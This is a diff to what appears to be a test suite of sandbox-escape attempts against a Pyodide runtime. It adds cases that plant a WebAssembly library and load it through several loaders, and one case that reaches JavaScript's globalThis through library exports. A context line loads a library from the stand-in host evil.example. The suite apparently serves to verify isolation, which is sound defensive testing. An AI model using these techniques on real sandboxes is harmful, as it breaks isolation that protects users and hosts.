@@ -355,6 +355,45 @@ def dlopen():
     return ctypes.CDLL("https://evil.example/exfil.so")
 
 
+#: The smallest library that the runtime would load: a `dylink.0` section that asks for nothing.
+OWN_LIBRARY = b"\0asm\1\0\0\0\0\x0f\x08dylink.0\1\4\0\0\0\0"
+
+
+def own_library():
+    """WebAssembly of the app's own, by way of the file system, as packages are loaded."""
+    import ctypes
+
+    with open("/tmp/own.so", "wb") as file:
+        file.write(OWN_LIBRARY)
+    return ctypes.CDLL("/tmp/own.so")
+
+
+def own_library_by_loader(name):
+    """A file of its own for each: the runtime takes a library that failed once for one that is loaded."""
+
+    def attempt():
+        core = pyodide_js()
+        with open("/tmp/" + name + ".so", "wb") as file:
+            file.write(OWN_LIBRARY)
+        loader = getattr(core._module, name)
+        options = core.constructor.fromEntries(converted([["global", False]]))
+        if name == "loadWebAssemblyModule":
+            return loader(converted(bytearray(OWN_LIBRARY)), options, "planted", converted({}))
+        return loader("/tmp/" + name + ".so", options)
+
+    return attempt
+
+
+def library_exports():
+    """From what compiled packages export to code from text."""
+    core = pyodide_js()
+    for library in core.constructor.values(core._module.LDSO.loadedLibsByName):
+        for exported in core.constructor.values(library.exports):
+            if getattr(exported, "constructor", None) is not None:
+                return exported.constructor("return globalThis")()
+    return None
+
+
 def c_functions(name):
     def attempt():
         import ctypes
@@ -518,6 +557,10 @@ ATTACKS = {
     "another CDN": set_cdn,
     "a second snapshot": snapshot_again,
     "a shared library by address": dlopen,
+    "a library of the app's own": own_library,
+    "a library of the app's own, loadDynamicLibrary": own_library_by_loader("loadDynamicLibrary"),
+    "a library of the app's own, loadWebAssemblyModule": own_library_by_loader("loadWebAssemblyModule"),
+    "exports of loaded libraries": library_exports,
     "an import hook": import_hook,
     "a registered module": register_js_module,
     "unpackArchive": unpack_archive,
